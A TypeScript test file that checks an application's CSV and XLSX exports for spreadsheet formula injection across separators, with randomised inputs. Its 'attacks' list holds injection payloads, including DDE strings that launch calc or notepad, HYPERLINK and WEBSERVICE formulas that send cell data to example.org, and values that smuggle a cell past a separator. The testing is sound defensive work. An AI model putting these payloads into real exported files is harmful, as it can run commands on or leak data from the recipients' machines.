// G17: nothing in a file for spreadsheets begins a formula, in whatever cell and by whatever sign a computer parts them;
// numbers stay numbers. Read back by readers that are none of the writers.
import { expect, describe, test, beforeAll } from 'vitest'
import { tableAsCsv, tablesAsWorkbook } from '../../renderer/documents/files/tables.ts'
import { listFile } from '../../renderer/lib/list-file.ts'
import { xlsxOfSheets } from '../../renderer/lib/workbook.ts'
import { listFormats } from '../../shared/contract/exports.ts'
import type { SectionedDocument } from '../../shared/contract/report-document.ts'
import { csvRow } from '../../shared/csv.ts'
import { readCsv, readWorkbook } from '../helpers/read-sheets.ts'
import { startWords } from '../helpers/words.ts'

beforeAll(startWords)

const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '"=1+1',
  '"=1+1"',
  `'=1+1`,
  `"'" =1+1`,
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C notepad'!'A1'`,
  '=HYPERLINK("http://example.org/?"&A1,"x")',
  '=WEBSERVICE("http://example.org")',
  `=DDE("cmd";"/C calc";"x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  'a;=1+1',
  'a;"=1+1"',
  'a,=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1;b',
  'x";=cmd|\' /C calc\'!A0;"',
  '-2+3',
  '--5',
  '-5e',
  '=-5',
]
const harmless = ['Roza', 'C-A-2014-0001', 'a - b', '2014-04-08', 'a=b', 'x@example.org', '«Тұрар»', '«a, b»']
const numbers = ['-5', '-12.50', '1761000', '0', '-0,25', '42']

/** A sign that begins a formula, behind anything a spreadsheet may skip. */
const begins = /^[\s"\u200b-\u200d\ufeff]*[=+\-@＝＋－＠]/
const isNumber = (text: string) => /^-?\d+([.,]\d+)?$/.test(text)
/** Read by another sign, several cells are one: what begins with a whole number is an amount and what follows it. */
const beginsNumber = /^-\d+([.,]\d+)?,/
const formulas = (cells: readonly string[]) =>
  cells.filter((cell) => begins.test(cell) && !isNumber(cell) && !beginsNumber.test(cell))

const separators = [',', ';', '\t', '|']

test('G17: no cell of a line of CSV begins a formula, however the line is parted', () => {
  const rows = [...attacks, ...harmless].flatMap((text) => [
    [text],
    ['x', text, 'y'],
    ['-5', text, '-5'],
    [text, text],
  ])
  const csv = rows.map(csvRow).join('\r\n')
  for (const separator of separators) expect(formulas(readCsv(csv, separator).flat())).toEqual([])
  for (const text of [...harmless, ...numbers]) expect(readCsv(csvRow([text]))).toEqual([[text]])
})

test('G17: nor of ten thousand made up at random, which else come back as they went', () => {
  const signs = Array.from('=+-@＝＋－＠\t\r\n;,|"\' a1б\u200b\u00a0').concat('cmd|')
  let seed = 7
  const next = (below: number) => (seed = (seed * 48_271) % 2_147_483_647) % below
  const cells = Array.from({ length: 10_000 }, () =>
    Array.from({ length: 1 + next(7) }, () => signs[next(signs.length)] ?? '').join(''),
  )
  const csv = cells.map((cell) => csvRow(['x', cell, 'y'])).join('\r\n')
  for (const separator of separators) expect(formulas(readCsv(csv, separator).flat())).toEqual([])
  const plain = (text: string) => text.replaceAll("'", '').replaceAll('\r', '')
  expect(readCsv(csv).map(([, cell = '']) => plain(cell))).toEqual(cells.map(plain))
})

describe('G17 in every file', () => {
  const texts = [...attacks, ...numbers]
  test.each(listFormats)('a list as %s', async (format) => {
    const { bytes } = await listFile({
      format,
      name: '=list',
      heads: ['=1+1', 'Amount'],
      read: () => ({
        rows: texts.map((text) => [text, { decimal: '-12.50', places: 2 }]),
        named: [],
        next: null,
      }),
      onRow: () => {},
      signal: new AbortController().signal,
    })
    if (format === 'csv') {
      const rows = readCsv(new TextDecoder().decode(bytes))
      expect(formulas(rows.flat())).toEqual([])
      expect(rows.slice(1).every(([, amount]) => amount === '-12.50')).toBe(true)
      return
    }
    const [sheet] = readWorkbook(bytes)
    const cells = sheet?.rows.flat() ?? []
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
    expect(formulas(cells.filter((cell) => !cell.isNumber).map(({ text }) => text))).toEqual([])
    expect(sheet?.rows.slice(1).every(([, amount]) => amount?.isNumber && amount.text === '-12.5')).toBe(true)
  })

  const report: SectionedDocument = {
    kind: 'fund_statement',
    runId: '',
    ref: '=RP',
    language: 'en',
    generatedAt: '2014-04-08T10:00:00.000Z',
    level: 'internal',
    office: '+Office',
    isDemo: false,
    check: { seq: 1, code: 'A' },
    title: '=1+1',
    meta: ['@meta'],
    classWords: {},
    recipient: '-x',
    paper: 'a4',
    orientation: 'portrait',
    hasCover: false,
    hasWatermark: false,
    logo: null,
    sections: [
      {
        id: 'statement',
        title: '=1+1',
        blocks: [
          {
            block: 'table',
            name: '=1+1',
            none: null,
            columns: ['=A', '+B'].map((head) => ({ head, end: false, width: null })),
            rows: texts.map((text) => ({
              isSum: false,
              cells: [
                { as: 'lines', lines: [text, text] },
                { as: 'lines', lines: [{ as: 'money', minor: -1250, currency: 'CHF', bare: true }, text] },
              ],
            })),
          },
        ],
      },
    ],
  }
  test('a report as a workbook', async () => {
    const sheets = readWorkbook(await tablesAsWorkbook(report))
    const cells = sheets.flatMap(({ rows }) => rows.flat())
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
    expect(formulas(cells.filter((cell) => !cell.isNumber).map(({ text }) => text))).toEqual([])
    expect(cells.filter(({ isNumber: is, text }) => is && text === '-12.5')).toHaveLength(texts.length)
  })
  test('a table of a report as CSV', async () => {
    const { tablesOf } = await import('../../renderer/documents/files/tables.ts')
    const [table] = tablesOf(report)
    if (!table) throw new Error('no table')
    const csv = tableAsCsv(report, table)
    for (const separator of separators) expect(formulas(readCsv(csv, separator).flat())).toEqual([])
    expect(readCsv(csv).filter((cells) => cells.includes('-12.50'))).toHaveLength(texts.length)
  })
  test('the names of sheets', async () => {
    const bytes = await xlsxOfSheets({
      title: '=1+1',
      office: '=1+1',
      about: { name: '=About', lines: ['=1+1'] },
      tables: [],
    })
    expect(formulas(readWorkbook(bytes).flatMap(({ rows }) => rows.flat().map(({ text }) => text)))).toEqual(
      [],
    )
  })
})
